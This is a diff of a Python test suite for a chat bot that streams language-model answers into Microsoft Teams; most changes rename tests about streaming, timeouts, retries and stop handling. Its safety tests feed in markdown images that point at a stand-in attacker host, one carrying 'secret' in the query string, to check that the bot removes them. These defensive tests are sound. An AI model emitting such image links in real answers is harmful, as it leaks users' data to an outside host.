@@ -46,9 +46,7 @@ class TestSteps:
         assert connector.steps[0].text == "First "
         assert connector.steps[0].at - start == pytest.approx(0.8, abs=0.05)
 
-    async def test_follow_once_a_second_with_all_that_is_there(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_follow_once_a_second_with_all_the_text(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("a", 0.4, "b", 0.4, "c", 0.4, "d", 1.5, "e", 0.1)
 
         await bot.personal().say("Hi")
@@ -68,7 +66,7 @@ class TestSteps:
         assert len(connector.sent) == 21
         assert min(later.at - earlier.at for earlier, later in pairwise(connector.sent)) >= 0.999999
 
-    async def test_wait_until_the_one_before_has_succeeded(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_wait_until_the_previous_step_has_succeeded(self, bot: Bot, connector: Connector, model: ModelServer):
         connector.latency = 2.5
         model.speaks(*[piece for number in range(10) for piece in (f"{number} ", 1.0)])
 
@@ -76,9 +74,7 @@ class TestSteps:
 
         assert [sent.at for sent in connector.sent] == pytest.approx([0, 3.5, 7, 10.5], abs=0.05)
 
-    async def test_arrive_no_faster_when_their_way_takes_different_times(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_arrive_no_faster_when_latencies_differ(self, bot: Bot, connector: Connector, model: ModelServer):
         connector.transits = cycle((0.3, 0.02, 0.1))
         model.speaks(*[piece for number in range(100) for piece in (f"{number} ", 0.1)])
 
@@ -95,14 +91,14 @@ class TestSteps:
 
         assert [sent.stream and sent.stream.get("streamSequence") for sent in connector.sent] == [1, 2, None]
 
-    async def test_are_taken_up_again_with_the_next_answer(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_begin_again_with_the_next_answer(self, bot: Bot, connector: Connector, model: ModelServer):
         for _ in range(2):
             model.speaks("a", 0.5, "b")
             await bot.personal().say("Hi")
 
         assert texts(connector.sent) == ["a", "ab"] * 2
 
-    async def test_leave_out_what_is_white_space_alone(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_leave_out_text_that_is_only_white_space(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("\n\n", 0.5, "word", 0.8)
 
         await bot.personal().say("Hi")
@@ -123,15 +119,13 @@ class TestFinal:
         assert final.text == "first last"
         assert final.at <= last_token_after + 1.02
 
-    async def test_is_an_ordinary_message_when_the_answer_was_there_before_anything_was_shown(
-        self, bot: Bot, connector: Connector
-    ):
+    async def test_is_an_ordinary_message_when_nothing_was_streamed(self, bot: Bot, connector: Connector):
         await bot.personal().say("")
 
         assert [sent.stream for sent in connector.sent] == [None]
 
     @pytest.mark.parametrize("text_format", ["markdown", "extendedmarkdown"])
-    async def test_and_every_step_say_how_the_text_is_to_be_read(
+    async def test_and_every_step_name_the_text_format(
         self,
         environment: dict[str, str],
         connector: Connector,
@@ -158,16 +152,14 @@ class TestWaiting:
         assert texts(others) == ["At last."]
         assert others[0].at == pytest.approx(30, abs=0.05)
 
-    async def test_for_less_is_not(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_for_less_than_a_second_is_not_shown(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(0.9, "Quick.", 1)
 
         await bot.personal().say("Hi")
 
         assert texts(connector.steps) == ["Quick."]
 
-    async def test_in_the_middle_of_the_text_shows_nothing_else(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_within_the_text_shows_nothing_else(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("Well, ", 20, "yes.", 1)
 
         await bot.personal().say("Hi")
@@ -175,7 +167,7 @@ class TestWaiting:
         assert texts(connector.steps) == ["Well, ", "Well, yes."]
 
     @pytest.mark.parametrize("seconds", [0.5, 5.0])
-    async def test_for_a_tool_that_takes_its_time_shows_which(
+    async def test_for_a_slow_tool_shows_its_name(
         self,
         monkeypatch: pytest.MonkeyPatch,
         environment: dict[str, str],
@@ -199,7 +191,7 @@ class TestWaiting:
         assert texts(connector.steps) == [*expected, "Here "]
         assert connector.steps[-1].at == pytest.approx(seconds, abs=0.05)
 
-    async def test_for_a_tool_with_a_very_long_name_shows_as_much_of_it_as_teams_takes(
+    async def test_for_a_tool_shortens_a_very_long_name(
         self, monkeypatch: pytest.MonkeyPatch, environment: dict[str, str], connector: Connector, model: ModelServer
     ):
         async def search() -> str:
@@ -217,7 +209,7 @@ class TestWaiting:
 
         assert len(connector.steps[0].text) == 1000
 
-    async def test_in_vain_ends_with_one_line_in_the_place_of_the_status(
+    async def test_in_vain_ends_with_a_line_instead_of_the_status(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks(5)
@@ -230,7 +222,7 @@ class TestWaiting:
 
 
 class TestTwoMinutes:
-    async def test_are_not_exceeded_and_the_same_message_gets_the_whole_answer(
+    async def test_are_not_exceeded_and_the_message_is_completed_later(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks(*[piece for number in range(60) for piece in (f"{number} ", 10.0)])
@@ -246,7 +238,7 @@ class TestTwoMinutes:
         assert connector.messages[-1].method == "PUT"
         assert connector.messages[-1].at == pytest.approx(10 * MINUTE, abs=0.1)
 
-    async def test_of_silence_end_with_a_line_that_the_answer_replaces(
+    async def test_of_silence_end_with_a_line_that_is_replaced_later(
         self, environment: dict[str, str], connector: Connector, model: ModelServer
     ):
         model.speaks(4 * MINUTE, "Here it is.", 1)
@@ -259,7 +251,7 @@ class TestTwoMinutes:
         assert meanwhile == [STILL_WRITING]
         assert [bubble.text for bubble in connector.bubbles()] == ["Here it is."]
 
-    async def test_over_the_bot_is_seen_to_be_typing(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_are_followed_by_the_typing_indicator(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(*[piece for number in range(14) for piece in (f"{number} ", 10.0)])
 
         await bot.personal().say("Hi")
@@ -268,9 +260,7 @@ class TestTwoMinutes:
         assert len(typing) > 5
         assert all(later - earlier == pytest.approx(5, abs=0.1) for earlier, later in pairwise(typing))
 
-    async def test_over_and_the_message_gone_the_answer_is_sent_anew(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_end_and_a_deleted_message_is_sent_again(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(*[piece for number in range(15) for piece in (f"{number} ", 10.0)])
 
         turn = await ask_while(bot, connector, seconds=2 * MINUTE)
@@ -280,7 +270,7 @@ class TestTwoMinutes:
         assert connector.messages[-1].method == "POST"
         assert connector.messages[-1].text.split()[-1] == "14"
 
-    async def test_over_and_the_update_never_answered_the_answer_is_sent_anew(
+    async def test_end_and_an_unanswered_update_is_sent_as_a_message(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks(*[piece for number in range(15) for piece in (f"{number} ", 10.0)])
@@ -305,7 +295,7 @@ class TestTwoMinutes:
         assert connector.refusals == [429]
         assert [bubble.text.split()[-1] for bubble in connector.bubbles()] == ["19"]
 
-    async def test_over_without_a_word_the_line_is_not_labelled_as_made_by_ai(
+    async def test_without_text_end_with_a_line_without_ai_label(
         self, environment: dict[str, str], connector: Connector, model: ModelServer
     ):
         model.speaks(4 * MINUTE, "Here it is.", 1)
@@ -317,7 +307,7 @@ class TestTwoMinutes:
 
         assert [bubble.has_ai_label for bubble in connector.bubbles()] == [True]
 
-    async def test_over_in_a_line_that_is_too_long_for_a_message_keep_what_was_shown(
+    async def test_within_a_very_long_line_keep_the_shown_text(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("x" * 30_000, 1.5, "y" * 10_000, *[piece for _ in range(11) for piece in ("z", 10.0)])
@@ -328,9 +318,7 @@ class TestTwoMinutes:
 
         assert meanwhile == f"{'x' * 30_000}\n\n{STILL_WRITING}"
 
-    async def test_over_in_a_code_block_the_line_stands_below_it(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_within_a_code_block_put_the_line_below_it(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("```\n", *[piece for number in range(15) for piece in (f"{number}\n", 10.0)])
 
         turn = await ask_while(bot, connector, seconds=2 * MINUTE)
@@ -339,7 +327,7 @@ class TestTwoMinutes:
 
         assert meanwhile.endswith(f"\n```\n\n{STILL_WRITING}")
 
-    async def test_over_a_failing_model_leaves_what_there_was_and_the_line(
+    async def test_end_and_a_failing_model_leaves_text_and_line(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks(*[piece for number in range(15) for piece in (f"{number} ", 10.0)])
@@ -354,7 +342,7 @@ class TestTwoMinutes:
 
 class TestStop:
     @pytest.mark.parametrize("told", STOPPED)
-    async def test_ends_the_making_of_the_answer_and_nothing_more_is_sent(
+    async def test_ends_the_answer_and_sends_nothing_more(
         self, bot: Bot, connector: Connector, model: ModelServer, told: str
     ):
         model.speaks(*[piece for number in range(60) for piece in (f"{number} ", 1.0)])
@@ -369,7 +357,7 @@ class TestStop:
         assert response.status_code == 200
         assert [bubble.text.split()[-1] for bubble in connector.bubbles()] == ["4"]
 
-    async def test_at_the_last_moment_is_heeded_as_well(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_at_the_last_moment_works_too(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("All of ", 0.5, "it.")
 
         turn = await ask_while(bot, connector, seconds=0.8)
@@ -379,7 +367,7 @@ class TestStop:
         assert connector.refusals == [403]
         assert [bubble.text for bubble in connector.bubbles()] == ["All of "]
 
-    async def test_while_only_a_status_is_shown_ends_the_making_with_the_first_words(
+    async def test_during_a_status_ends_the_answer_at_its_first_words(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks(4, *[piece for number in range(60) for piece in (f"{number} ", 1.0)])
@@ -391,7 +379,7 @@ class TestStop:
         assert model.hung_up_at is not None and model.hung_up_at < 5
         assert [bubble.is_status for bubble in connector.bubbles()] == [True]
 
-    async def test_before_the_line_about_a_failure_is_remembered_and_nothing_more_is_sent(
+    async def test_before_the_line_of_a_failure_is_remembered(
         self, bot: Bot, connector: Connector, model: ModelServer, caplog: pytest.LogCaptureFixture
     ):
         model.speaks("One, ", 0.5)
@@ -406,7 +394,7 @@ class TestStop:
         await bot.personal().ask("Go on")
         assert model.messages()[2][1].startswith("One, ")
 
-    async def test_that_cannot_be_remembered_is_logged_and_nothing_more_is_sent(
+    async def test_that_cannot_be_remembered_is_logged(
         self,
         environment: dict[str, str],
         bot: Bot,
@@ -425,9 +413,7 @@ class TestStop:
         assert [bubble.text for bubble in connector.bubbles()] == ["One, "]
         assert "could not be remembered" in caplog.text
 
-    async def test_leaves_in_the_memory_what_was_shown_as_interrupted(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_stores_the_shown_text_as_interrupted(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("Never said: ", 1.5, "the end", 60)
         turn = await ask_while(bot, connector, seconds=0.5)
         connector.press_stop("personal-1")
@@ -441,7 +427,7 @@ class TestStop:
 
 
 class TestRefusal:
-    async def test_of_any_stream_sends_the_answer_as_a_message_when_it_is_ready(
+    async def test_of_any_stream_sends_the_whole_answer_as_a_message(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         connector.no_streams.add("personal-1")
@@ -467,7 +453,7 @@ class TestRefusal:
             (500, "Something else."),
         ],
     )
-    async def test_in_the_middle_leaves_one_message_with_the_whole_answer(
+    async def test_within_the_stream_leaves_one_whole_message(
         self, bot: Bot, connector: Connector, model: ModelServer, status: int, reason: str
     ):
         model.speaks("One, ", 2, "two, ", 2, "three.")
@@ -479,7 +465,7 @@ class TestRefusal:
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two, three."]
         assert connector.messages[-1].at == pytest.approx(4, abs=1)
 
-    async def test_of_the_final_message_leaves_one_message_with_the_whole_answer(
+    async def test_of_the_final_message_leaves_one_whole_message(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         connector.refuse_next(403, "ContentStreamNotAllowed", "Content stream was already completed.", type="message")
@@ -489,7 +475,7 @@ class TestRefusal:
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
-    async def test_because_of_a_stream_that_is_running_breaks_neither_answer(
+    async def test_during_another_stream_damages_neither_answer(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("First ", 5, "answer.")
@@ -502,7 +488,7 @@ class TestRefusal:
         assert [bubble.text for bubble in connector.bubbles()] == ["First answer.", "Second answer."]
         assert connector.refusals == [], "Teams need not be asked"
 
-    async def test_because_of_a_stream_of_another_process_breaks_neither_answer(
+    async def test_during_a_stream_elsewhere_damages_neither_answer(
         self, environment: dict[str, str], tmp_path: Path, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("First ", 5, "answer.")
@@ -525,7 +511,7 @@ class TestRefusal:
         assert len([sent for sent in connector.sent if sent.type == "typing" and not sent.stream]) == 5
 
     @pytest.mark.parametrize("status", [403, 413, 500])
-    async def test_while_only_a_status_is_shown_leaves_one_message(
+    async def test_during_a_status_leaves_one_message(
         self, bot: Bot, connector: Connector, model: ModelServer, status: int
     ):
         model.speaks(4, "One, ", 2, "two.")
@@ -538,7 +524,7 @@ class TestRefusal:
 
 
 class TestRetry:
-    async def test_of_a_step_that_was_throttled_waits_as_long_as_teams_says(
+    async def test_of_a_throttled_step_waits_as_long_as_teams_asks(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("One, ", 1.5, "two, ", 3, "three.")
@@ -552,7 +538,7 @@ class TestRetry:
 
     @pytest.mark.parametrize("status", [412, 429, 502, 503, 504])
     @pytest.mark.parametrize("type", ["typing", "message"])
-    async def test_of_what_failed_for_the_moment_shows_one_message(
+    async def test_after_a_temporary_failure_shows_one_message(
         self, bot: Bot, connector: Connector, model: ModelServer, status: int, type: str
     ):
         connector.refuse_next(status, "Unavailable", "not now", type=type, times=3)
@@ -562,7 +548,7 @@ class TestRetry:
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
-    async def test_of_a_request_that_teams_does_not_answer(self, bot: Bot, connector: Connector, model: ModelServer):
+    async def test_of_an_unanswered_request_shows_one_message(self, bot: Bot, connector: Connector, model: ModelServer):
         connector.ignore_next(type="typing")
         connector.ignore_next(type="message")
         model.speaks("One, ", 0.5, "two.")
@@ -571,9 +557,7 @@ class TestRetry:
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
-    async def test_of_a_step_does_not_hold_the_answer_up_for_longer_than_the_step_may_take(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_of_a_step_delays_the_answer_only_briefly(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("One, ", 1.5, "two, ", 0.5, "three.")
 
         turn = await ask_while(bot, connector, seconds=0.5)
@@ -584,7 +568,7 @@ class TestRetry:
         assert connector.messages[-1].at < 9
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two, three."]
 
-    async def test_of_a_step_whose_answer_was_lost_goes_on_with_the_stream(
+    async def test_of_a_step_with_a_lost_response_continues_the_stream(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("One, ", 1.5, "two, ", 3, "three, ", 3, "four.")
@@ -596,9 +580,7 @@ class TestRetry:
         assert texts(connector.steps)[-1] == "One, two, three, "
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two, three, four."]
 
-    async def test_of_a_final_message_whose_answer_was_lost_shows_it_once(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_of_a_final_message_shows_it_once(self, bot: Bot, connector: Connector, model: ModelServer):
         connector.lose_answer_to_next(type="message")
         model.speaks("One, ", 0.5, "two.")
 
@@ -606,7 +588,7 @@ class TestRetry:
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
-    async def test_ends_after_a_few_attempts_and_the_person_gets_the_answer_in_a_message(
+    async def test_ends_after_five_attempts_with_an_ordinary_message(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         connector.refuse_next(503, "Unavailable", "not now", type="typing", times=50)
@@ -619,9 +601,7 @@ class TestRetry:
 
 
 class TestSize:
-    async def test_beyond_the_limit_is_sent_in_parts_whole_and_in_order(
-        self, bot: Bot, connector: Connector, model: ModelServer
-    ):
+    async def test_beyond_the_limit_is_sent_in_parts_in_order(self, bot: Bot, connector: Connector, model: ModelServer):
         paragraphs = [f"{number} " + "word " * 400 + "\n\n" for number in range(100)]
         model.speaks(*[piece for paragraph in paragraphs for piece in (paragraph, 0.2)])
 
@@ -631,7 +611,7 @@ class TestSize:
         assert "".join(bubble.text for bubble in connector.bubbles()) == "".join(paragraphs)
         assert all(bubble.has_ai_label for bubble in connector.bubbles())
 
-    async def test_of_a_single_line_beyond_the_limit_shows_as_much_as_is_certain(
+    async def test_of_a_single_line_shows_the_certain_part_while_streaming(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.speaks("x" * 30_000, 1.5, "y" * 10_000, 1.5, "z")
@@ -644,7 +624,7 @@ class TestSize:
 
 
 class TestSafety:
-    async def test_an_answer_of_nothing_but_a_removed_image_gets_a_line(
+    async def test_an_answer_of_only_a_removed_image_gets_a_line(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         model.answers("![](https://evil.example/x.png)")
@@ -653,7 +633,7 @@ class TestSafety:
 
         assert answer.startswith("The language model had nothing to say to that.")
 
-    async def test_no_step_shows_an_image_however_it_is_cut_into_pieces(
+    async def test_no_step_shows_an_image_that_is_split_into_chunks(
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         image = "![a chart](https://evil.example/?q=secret)"
@@ -675,7 +655,7 @@ class TestSafety:
 
         assert answer == "![a chart](https://images.example/chart.png)"
 
-    async def test_a_mention_of_the_models_making_is_plain_text(self, bot: Bot, model: ModelServer):
+    async def test_a_mention_written_by_the_model_is_plain_text(self, bot: Bot, model: ModelServer):
         model.answers("Ask <at>Everyone</at>.")
 
         assert await bot.group().ask("Hi") == "Ask &lt;at>Everyone&lt;/at>."
